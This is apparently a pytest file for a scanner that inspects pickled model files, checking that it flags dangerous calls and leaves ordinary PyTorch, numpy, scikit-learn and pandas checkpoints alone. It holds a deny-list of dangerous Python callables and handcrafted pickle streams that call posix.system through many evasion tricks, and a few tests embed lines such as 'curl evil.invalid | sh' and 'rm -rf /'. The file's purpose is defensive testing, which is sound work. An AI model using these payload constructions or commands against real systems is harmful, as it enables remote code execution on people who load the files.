"""What a person is told about a pickle: dangerous calls however they are written, and no alarm for ordinary models."""

import base64
import functools
import pickle
import zlib
from collections import OrderedDict

import pytest

from core.demo.pickles import state_dict, torch_legacy
from core.findings import FileState, Level
from core.scanning.inspection import Inspection
from tests.core.scanning.examining import levels, look_at
from tests.core.scanning.formats.opcodes import call, data, framed, name, named, pickled, short, text
from tests.core.scanning.formats.zips import Member, zipped

DANGEROUS = """
os.system posix.system nt.system os.popen subprocess.Popen subprocess.check_output builtins.exec builtins.eval
builtins.compile builtins.__import__ builtins.open __builtin__.eval __builtin__.execfile importlib.import_module
runpy.run_path runpy._run_code pty.spawn webbrowser.open code.InteractiveInterpreter codeop.compile_command
pip.main pip._internal.main pip._internal.cli.main.main numpy.testing._private.utils.runstring numpy.testing.runstring
torch.load torch.hub.load torch.jit.unsupported_tensor_ops.execWrapper bdb.Bdb.run pdb.run pdb.Pdb timeit.timeit
timeit.main cProfile.run cProfile.runctx profile.run profile.Profile.runctx asyncio.create_subprocess_shell
asyncio.unix_events._UnixSubprocessTransport._start ctypes.CDLL _ctypes.dlopen ctypes.util._findLib_gcc
_io.open _io.FileIO io.open_code socket.socket shutil.rmtree pydoc.locate pydoc.pipepager pkgutil.resolve_name
_winapi.CreateProcess _posixsubprocess.fork_exec marshal.loads types.CodeType types.FunctionType pickle.loads
_pickle.loads dill.loads joblib.load numpy.load cloudpickle.loads torch._dynamo.guards.GuardBuilder.get
torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression
torch.utils._config_module.ConfigModule.load_config torch.utils.bottleneck.__main__.run_cprofile
torch.utils.collect_env.run torch.utils.data.datapipes.utils.decoder.basichandlers
torch.distributed.rpc.server_process_global_profile idlelib.autocomplete.AutoComplete.get_entity
idlelib.run.Executive.runcode lib2to3.pgen2.grammar.Grammar.loadpkl lib2to3.pgen2.pgen.ParserGenerator.make_label
ensurepip._run_pip distutils.file_util.write_file http.client.HTTPSConnection urllib.request.urlopen requests.get
ftplib.FTP smtplib.SMTP telnetlib.Telnet uuid._get_command_stdout _osx_support._read_output
_aix_support._read_cmd_output _pyrepl.pager.pipe_pager imaplib.IMAP4 commands.getoutput venv.create trace.Trace.run
doctest.debug_script logging.config._resolve numpy.f2py.crackfortran.myeval numpy.f2py.crackfortran.param_eval
numpy.f2py.diagnose.run test.support.script_helper.assert_python_ok unittest.mock._importer zipimport.zipimporter
sqlite3.connect multiprocessing.util.spawnv_passfds pathlib.Path.write_text pandas.read_pickle pandas.eval sys.exit
site.addpackage cgitb.lookup tensorflow.io.read_file keras.models.load_model sympy.sympify yaml.unsafe_load
jsonpickle.decode typing.ForwardRef typing._eval_type dataclasses.make_dataclass cStringIO.open
shutil.os.system builtins.globals builtins.breakpoint signal.signal
threading.Thread gc.get_objects atexit.register platform.popen linecache.getlines codecs.open
""".split()
"""Calls that were used in the wild or to get past a block-list (threats.md, section 3)."""


@pytest.mark.parametrize("dotted", DANGEROUS)
def test_a_dangerous_call_is_high_risk(dotted: str) -> None:
    inspection = look_at("model.pkl", pickled(call(*named(dotted), "echo")))
    assert levels(inspection).get("pickle-dangerous") is Level.HIGH
    (found,) = (found for found in inspection.findings.values() if found.rule == "scanning.pickle-dangerous")
    assert dict(found.values)["reason"]
    assert any("echo" in fact.value for fact in found.evidence)


WAYS = {
    "protocol 0": b"cposix\nsystem\n(S'echo'\ntR.",
    "protocol 0, memo": b"cposix\nsystem\np0\n(S'echo'\np1\ntp2\nRp3\n.",
    "protocol 1": b"cposix\nsystem\nq\x00(U\x04echoq\x01tq\x02R.",
    "protocol 2": b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00echo\x85R.",
    "protocol 3": b"\x80\x03cposix\nsystem\nX\x04\x00\x00\x00echo\x85R.",
    "protocol 4": framed(
        short("posix") + b"\x94" + short("system") + b"\x94\x93\x94" + short("echo") + b"\x94\x85R\x94"
    ),
    "protocol 5": framed(short("posix") + short("system") + b"\x93" + short("echo") + b"\x85R", 5),
    "no protocol mark": short("posix") + short("system") + b"\x93" + short("echo") + b"\x85R.",
    "a frame first": b"\x95\x20" + b"\0" * 7 + short("posix") + short("system") + b"\x93" + short("echo") + b"\x85R.",
    "INST": b"(S'echo'\niposix\nsystem\n.",
    "OBJ": b"(cposix\nsystem\nS'echo'\no.",
    "NEWOBJ": pickled(name("posix", "system") + text("echo") + b"\x85\x81"),
    "NEWOBJ_EX": pickled(name("posix", "system") + text("echo") + b"\x85}\x92", 4),
    "result dropped": pickled(call("posix", "system", "echo") + b"0N"),
    "in a dropped stretch": pickled(b"(" + call("posix", "system", "echo") + b"1N"),
    "as a member": pickled(b"](" + text("a") + call("posix", "system", "echo") + b"e"),
    "as a state": pickled(name("collections", "OrderedDict") + b")R" + call("posix", "system", "echo") + b"b"),
    "long name opcodes": framed(
        b"\x8d" + (5).to_bytes(8, "little") + b"posix" + b"X\x06\0\0\0system" + b"\x93" + short("echo") + b"\x85R"
    ),
    "old string opcodes": b"\x80\x02U\x05posixT\x06\0\0\0system\x93U\x04echo\x85R.",
    "escaped text": b"V\\u0070osix\nVsystem\n\x93Vecho\n\x85R.",
    "partial": pickled(name("functools", "partial") + name("posix", "system") + text("echo") + b"\x86R)R"),
    "map": pickled(name("builtins", "map") + name("posix", "system") + text("echo") + b"\x85\x86R"),
    "getattr": pickled(
        name("builtins", "getattr")
        + call("builtins", "__import__", "os")
        + text("system")
        + b"\x86R"
        + text("echo")
        + b"\x85R"
    ),
    "attrgetter": pickled(
        call("operator", "attrgetter", "system")
        + call("importlib", "import_module", "os")
        + b"\x85R"
        + text("echo")
        + b"\x85R"
    ),
    "methodcaller": pickled(
        call("operator", "methodcaller", "system", "echo") + call("importlib", "import_module", "os") + b"\x85R"
    ),
    "protocol mark twice": b"\x80\x02\x80\x04" + call("posix", "system", "echo") + b".",
    "behind a harmless stream": b"\x80\x02N." + pickled(call("posix", "system", "echo")),
    "behind many harmless streams": b"\x80\x02N." * 500 + pickled(call("posix", "system", "echo")),
    "old stream behind a new one": b"\x80\x02N." + b"cposix\nsystem\n(S'echo'\ntR.",
    "behind junk": b"\x80\x02N." + b"\xff" * 100 + pickled(call("posix", "system", "echo")),
    "behind a broken stream": b"\x80\x02}\xff\xff\xff" + pickled(call("posix", "system", "echo")),
    "behind many starts of streams": b"\x80\x02N." + b"\xff\x80\x02c" * 100 + pickled(call("posix", "system", "echo")),
    "with a tar mark inside": (b"\x80\x02C\xffXX" + b"Y" * 252 + b"ustar\x0000" + b"Z" * 246)[:257] + b"",
}
del WAYS["with a tar mark inside"]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("path", ["pytorch_model.bin", "x.pkl", "config", "a/b.ckpt"])
def test_a_dangerous_call_is_found_however_it_is_written(way: str, path: str) -> None:
    inspection = look_at(path, WAYS[way])
    assert inspection.kind == "pickle"
    assert levels(inspection).get("pickle-dangerous") is Level.HIGH


def _inside(place: int, mark: bytes) -> bytes:
    """A pickle with the mark of another format at a place where that format is told by it."""
    payload = call("posix", "system", "echo")
    head = b"\x80\x04B" + (place + len(mark)).to_bytes(4, "little") if place > 8 else b"\x80\x04C" + bytes([place])
    return head + b"A" * (place - len(head)) + mark + b"A" * len(head) + b"0" + payload + b"."


@pytest.mark.parametrize(("place", "mark"), [(257, b"ustar"), (0x8001, b"CD001")])
def test_marks_of_other_formats_inside_a_pickle_do_not_hide_it(place: int, mark: bytes) -> None:
    assert levels(look_at("model.bin", _inside(place, mark))).get("pickle-dangerous") is Level.HIGH


@pytest.mark.parametrize("mark", [b"TFL3", b"ET12", b"ftyp"])
def test_marks_right_behind_the_start_do_not_hide_a_pickle(mark: bytes) -> None:
    stream = b"\x80\x04C\x05" + mark + b"A0" + call("posix", "system", "echo") + b"."
    assert levels(look_at("model.bin", stream)).get("pickle-dangerous") is Level.HIGH


@pytest.mark.parametrize(
    "start",
    [b"GIF89aXYZ", b"CBM1" + b"x" * 64, b"BM\0\0\0" + b"x" * 77, b"Cr24" + b"x" * 112, b"KDMV1"],
    ids=["picture", "catboost", "bitmap", "extension", "disk"],
)
def test_a_pickle_that_begins_like_another_format_is_not_passed_over(start: bytes) -> None:
    inspection = look_at("model.bin", start + b"0" + call("posix", "system", "echo") + b".")
    assert Level.HIGH in levels(inspection).values()


# -- the finding survives what comes after


@pytest.mark.parametrize(
    "after",
    [
        b"",
        b"\xff\xff",
        b"X\xff\xff\xff\x7f",
        b"\x80\x63",
        b"h\xee",
        b"1111",
        b"((((",
        b"S'open\n",
        b"\x8b\xff\xff\xff\xff",
    ],
    ids=["cut", "unknown", "too long", "protocol", "memo", "marks", "stack", "quotes", "negative"],
)
def test_a_stream_that_breaks_after_the_call_still_tells(after: bytes) -> None:
    inspection = look_at("model.bin", b"\x80\x02" + call("posix", "system", "echo") + after)
    assert levels(inspection)["pickle-dangerous"] is Level.HIGH
    assert levels(inspection)["pickle-broken"] is Level.HIGH
    assert inspection.state is FileState.PARTLY_CHECKED


@pytest.mark.parametrize("cut", range(2, 60, 3))
def test_a_truncated_pickle_is_never_passed_as_read(cut: int) -> None:
    stream = pickled(text("a padding") + b"0" + call("posix", "system", "echo"))
    inspection = look_at("model.bin", stream[:cut])
    assert inspection.state is not FileState.CHECKED or Level.HIGH in levels(inspection).values()


def test_too_many_marks_after_the_call_do_not_lose_it() -> None:
    inspection = look_at("model.bin", b"\x80\x02" + call("posix", "system", "echo") + b"(" * 200_000 + b".")
    assert levels(inspection)["pickle-dangerous"] is Level.HIGH
    assert inspection.state is FileState.PARTLY_CHECKED


def test_too_many_calls_after_the_call_do_not_lose_it() -> None:
    many = name("unheard_of", "thing") + b")" + b"2R0" * 0
    many = name("unheard_of", "thing") + b"q\x000" + b"h\x00)R0" * 210_000
    inspection = look_at("model.bin", b"\x80\x02" + call("posix", "system", "echo") + b"0" + many + b"N.")
    assert levels(inspection)["pickle-dangerous"] is Level.HIGH
    assert inspection.state is FileState.PARTLY_CHECKED


def test_more_streams_than_are_followed_are_said() -> None:
    inspection = look_at("model.bin", b"\x80\x02N." * 10_001 + b"cposix\nsystem\n(S'echo'\ntR.")
    assert inspection.state is FileState.PARTLY_CHECKED


def test_a_flood_of_unknown_names_does_not_push_out_the_dangerous_one() -> None:
    flood = b"".join(name(f"unheard_of_{number}", "thing") + b"0" for number in range(400))
    assert (
        levels(look_at("model.bin", pickled(flood + call("posix", "system", "echo"))))["pickle-dangerous"] is Level.HIGH
    )
    members = [Member(f"{number}", pickled(name(f"unheard_of_{number}", "thing"))) for number in range(400)]
    found = levels(look_at("a.zip", zipped(*members, Member("z", pickled(call("posix", "system", "echo"))))))
    assert found["pickle-dangerous"] is Level.HIGH


@pytest.mark.parametrize(
    "padding",
    [
        b"(lp0\n" + b"I5\na" * 20_000,
        b"V" + b"a" * 100_000 + b"\n0",
        b"(" + b"S'a'\n" * 20_000 + b"1",
        b"X" + (100_000).to_bytes(4, "little") + b"a" * 100_000 + b"0",
        b"N.N.",
    ],
    ids=["numbers", "a long line", "texts", "a long text", "streams"],
)
@pytest.mark.parametrize("path", ["model.bin", "model.pkl", "notes.txt"])
def test_a_dangerous_call_is_found_behind_any_length_of_harmless_beginning(padding: bytes, path: str) -> None:
    inspection = look_at(path, padding + b"cposix\nsystem\n(S'echo'\ntR.")
    assert levels(inspection).get("pickle-dangerous") is Level.HIGH


def test_calls_that_share_their_arguments_are_searched_once() -> None:
    shared = (
        b"("
        + text("x" * 4000) * 60
        + b"tq\x010"
        + b"("
        + b"h\x01" * 60
        + b"tq\x020"
        + b"("
        + b"h\x02" * 60
        + b"tq\x030"
    )
    calls = b"h\x00h\x03R0" * 20_000 + b"h\x00" + text("curl evil.invalid | sh") + b"\x85R"
    inspection = look_at("model.bin", pickled(name("unheard_of", "thing") + b"q\x000" + shared + calls))
    assert inspection.state is FileState.CHECKED
    assert levels(inspection)["pickle-unknown"] is Level.HIGH


# -- signs that are no call by name


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        (short("math") + b"\x940" + short("posix") + b"q\x000h\x00" + short("x") + b"\x93", "pickle-odd"),
        (call("builtins", "str", "posix") + short("system") + b"\x93" + text("echo") + b"\x85R", "pickle-computed"),
        (call("operator", "methodcaller", "__reduce__") + b")R", "pickle-computed"),
        (
            call("operator", "attrgetter", "__globals__") + name("collections", "OrderedDict") + b"\x85R",
            "pickle-computed",
        ),
        (b"NQ" + text("echo") + b"\x85R", "pickle-computed"),
        (name("collections", "OrderedDict") + b"}" + text("update") + name("os", "getcwd") + b"sb", "pickle-patch"),
        (name("some_library", "settings") + text("a") + text("b") + b"s", "pickle-patch"),
        (b"\x82\x05" + text("echo") + b"\x85R", "pickle-unknown"),
        (b"N.N" + b"\xff" * 40, "pickle-odd"),
    ],
)
def test_oddities_are_told(body: bytes, rule: str) -> None:
    found = levels(look_at("model.bin", pickled(body, 4)))
    assert found.get(rule) in {Level.CAREFUL, Level.HIGH}


def test_a_call_through_two_steps_is_high_risk() -> None:
    getter = call("operator", "attrgetter", "__class__.__base__") + b")\x85R"
    assert levels(look_at("model.bin", pickled(getter + b")R")))["pickle-computed"] is Level.HIGH


def test_an_unknown_function_that_gets_an_order_is_high_risk_even_if_its_last_call_is_harmless() -> None:
    body = call("unheard_of", "thing", "curl https://evil.invalid | sh") + b"0" + call("unheard_of", "thing", "a")
    assert levels(look_at("model.bin", pickled(body)))["pickle-unknown"] is Level.HIGH


def test_orders_may_come_through_partial() -> None:
    body = name("functools", "partial") + name("unheard_of", "thing") + text("rm -rf / ; echo") + b"\x86R)R"
    assert levels(look_at("model.bin", pickled(body)))["pickle-unknown"] is Level.HIGH


def test_an_unknown_class_asks_for_care_and_a_file_beside_it_is_named() -> None:
    stream = pickled(name("modeling_demo", "DemoModel") + b")\x81")
    assert levels(look_at("model.bin", stream)) == {"pickle-unknown": Level.CAREFUL}
    assert levels(look_at("model.bin", stream, "modeling_demo.py")) == {"pickle-local-code": Level.CAREFUL}
    called = pickled(call("modeling_demo", "build", "a"))
    assert levels(look_at("model.bin", called, "modeling_demo.py"))["pickle-local-code"] is Level.HIGH


# -- hidden inside

INNER = pickled(call("posix", "system", "echo"))


@pytest.mark.parametrize(
    "hidden",
    [
        data(INNER),
        b"C" + bytes([len(INNER)]) + INNER,
        b"\x96" + len(INNER).to_bytes(8, "little") + INNER,
        text(base64.b64encode(INNER).decode()),
        data(base64.b64encode(INNER)),
        data(zlib.compress(INNER)),
        text(base64.b64encode(zlib.compress(INNER)).decode()),
        data(b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19." + b"\x80\x02M\xe9\x03." + INNER + b"\xff" * 50),
        data(short("posix") + short("system") + b"\x93" + short("echo") + b"\x85R."),
        data(INNER + b"\0" * 100_000),
    ],
    ids=[
        "bytes",
        "short",
        "bytearray",
        "base64",
        "base64 bytes",
        "zlib",
        "base64 zlib",
        "old torch",
        "unmarked",
        "long",
    ],
)
@pytest.mark.parametrize("loader", [("torch.storage", "_load_from_bytes"), ("collections", "OrderedDict")])
def test_pickles_inside_pickles_are_followed(hidden: bytes, loader: tuple[str, str]) -> None:
    stream = pickled(name(*loader) + hidden + b"\x85R", 5)
    assert levels(look_at("model.bin", stream)).get("pickle-dangerous") is Level.HIGH


def test_a_pickle_that_contains_itself_in_ever_smaller_form_ends() -> None:
    stream = INNER
    for _ in range(20):
        stream = pickled(data(stream), 4)
    inspection = look_at("model.bin", stream)
    assert inspection.state is FileState.PARTLY_CHECKED


# -- no alarm for ordinary models


def _instance(module: str, name_: str, state: bytes = b"}") -> bytes:
    """An object as protocol 2 writes it: `copyreg.__newobj__` became NEWOBJ."""
    return name(module, name_) + b")\x81" + state + b"b"


def _array() -> bytes:
    dtype = (
        name("numpy", "dtype")
        + b"("
        + text("f8")
        + b"\x89\x88tR"
        + b"(K\x03"
        + text("<")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb"
    )
    made = (
        name("numpy.core.multiarray", "_reconstruct")
        + b"("
        + name("numpy", "ndarray")
        + b"K\0\x85"
        + data(b"b")
        + b"tR"
    )
    return made + b"(K\x01K\x03\x85" + dtype + b"\x89" + data(b"\0" * 24) + b"tb"


def _scalar() -> bytes:
    return (
        name("numpy.core.multiarray", "scalar")
        + name("numpy", "dtype")
        + b"("
        + text("f8")
        + b"\x89\x88tR"
        + data(b"\0" * 8)
        + b"\x86R"
    )


ORDINARY = {
    "torch state dict": state_dict({"weight": (3, 4), "bias": (4,)}),
    "torch before 1.6": torch_legacy({"weight": (3, 4), "bias": (4,)}, "seed"),
    "plain values": pickle.dumps({"a": [1, 2.5, "three", None, True, (4,), {5}, b"six", 1 << 80]}, 2),
    "plain values, oldest protocol": pickle.dumps({"a": [1, 2.5, "three", None, (4,)]}, 0),
    "plain values, newest protocol": pickle.dumps({"a": [1, 2.5, "three" * 100, bytearray(b"x" * 100)]}, 5),
    "numpy": pickled(_array()),
    "numpy scalar": pickled(_scalar()),
    "numpy 2": pickled(_array().replace(b"numpy.core.", b"numpy._core.")),
    "numpy random": pickled(call("numpy.random._pickle", "__randomstate_ctor", "MT19937")),
    "scikit-learn": pickled(
        _instance("sklearn.pipeline", "Pipeline", b"}" + text("steps") + b"](" + text("model")
                  + _instance("sklearn.linear_model._logistic", "LogisticRegression", b"}" + text("coef_")
                              + _array() + b"s") + b"\x86es")
    ),
    "scikit-learn tree": pickled(name("sklearn.tree._tree", "Tree") + b"(K\x04" + _array() + b"K\x01tR}b"),
    "pandas": pickled(
        _instance("pandas.core.frame", "DataFrame", b"}" + text("_mgr")
                  + name("pandas.core.internals.managers", "BlockManager") + b")"
                  + name("pandas._libs.internals", "_unpickle_block") + b"(" + _array() + b"K\x01tR\x86R" + b"s")
    ),
    "training arguments": pickled(
        _instance("transformers.training_args", "TrainingArguments", b"}" + text("lr_scheduler_type")
                  + call("transformers.trainer_utils", "SchedulerType", "linear") + b"s")
    ),
    "optimizer": pickled(b"}" + text("state") + b"}s"),
    "lightning": pickled(b"}" + text("hyper_parameters") + _instance("argparse", "Namespace") + b"s"),
    "old class": b"(ccollections\nOrderedDict\no.",
    "python 2": pickled(call("__builtin__", "set") + b"0" + name("copy_reg", "_reconstructor")
                        + b"(" + name("sklearn.svm.classes", "SVC") + name("__builtin__", "object") + b"NtR}b"),
}  # fmt: skip


@pytest.mark.parametrize("what", ORDINARY)
@pytest.mark.parametrize("path", ["pytorch_model.bin", "model.pkl", "training_args.bin"])
def test_ordinary_models_raise_no_alarm(what: str, path: str) -> None:
    inspection = look_at(path, ORDINARY[what])
    assert inspection.state is FileState.CHECKED
    assert levels(inspection) == {"pickle": Level.NOTE}


def test_many_ordinary_objects_are_read_to_the_end() -> None:
    many = name("collections", "OrderedDict") + b"\x940" + b"h\x00)R\x940" * 300_000
    inspection = look_at("forest.pkl", framed(many + b"N"))
    assert inspection.state is FileState.CHECKED
    assert levels(inspection) == {"pickle": Level.NOTE}


def test_every_call_that_a_person_is_shown_stays_short() -> None:
    wide = b"(" + text("x" * 3000) * 60 + b"t\x940"
    nested = wide + b"(" + b"h\x00" * 60 + b"t\x940" + b"(" + b"h\x01" * 60 + b"t\x940" + b"(" + b"h\x02" * 60 + b"t"
    inspection = look_at("model.bin", pickled(name("unheard_of", "thing") + nested + b"R", 4))
    assert levels(inspection)["pickle-unknown"] in {Level.CAREFUL, Level.HIGH}
    assert _longest(inspection) <= 400


def _longest(inspection: Inspection) -> int:
    return max(len(fact.value) for found in inspection.findings.values() for fact in found.evidence)


# -- functions completed with some of their arguments


@pytest.mark.parametrize("protocol", range(6))
def test_a_completed_function_is_ordinary_and_its_state_is_no_patch(protocol: int) -> None:
    inspection = look_at("model.pkl", pickle.dumps([functools.partial(OrderedDict, a=1)], protocol))
    assert levels(inspection) == {"pickle": Level.NOTE}


def test_what_the_state_of_a_completed_function_puts_in_its_place_is_what_is_called() -> None:
    made = name("functools", "partial") + b"(" + name("collections", "OrderedDict") + b"tR"
    swapped = made + b"(" + name("acme.tools", "helper") + b")}Ntb"
    called = pickled(swapped + b"(" + text("curl https://a.invalid | sh") + b"tR")
    assert levels(look_at("model.pkl", called))["pickle-unknown"] is Level.HIGH


def test_a_class_of_an_old_checkpoint_comes_through_a_persistent_id() -> None:
    known = b"(" + text("module") + name("torch.nn.modules.linear", "Linear") + text("a.py") + text("") + b"tQ"
    assert levels(look_at("model.pkl", pickled(known + b")\x81}b"))) == {"pickle": Level.NOTE}
    unknown = known.replace(b"torch.nn.modules.linear\nLinear", b"acme.tools\nrun_all")
    assert levels(look_at("model.pkl", pickled(unknown + b"(" + text("x") + b"tR")))["pickle-unknown"] is Level.HIGH
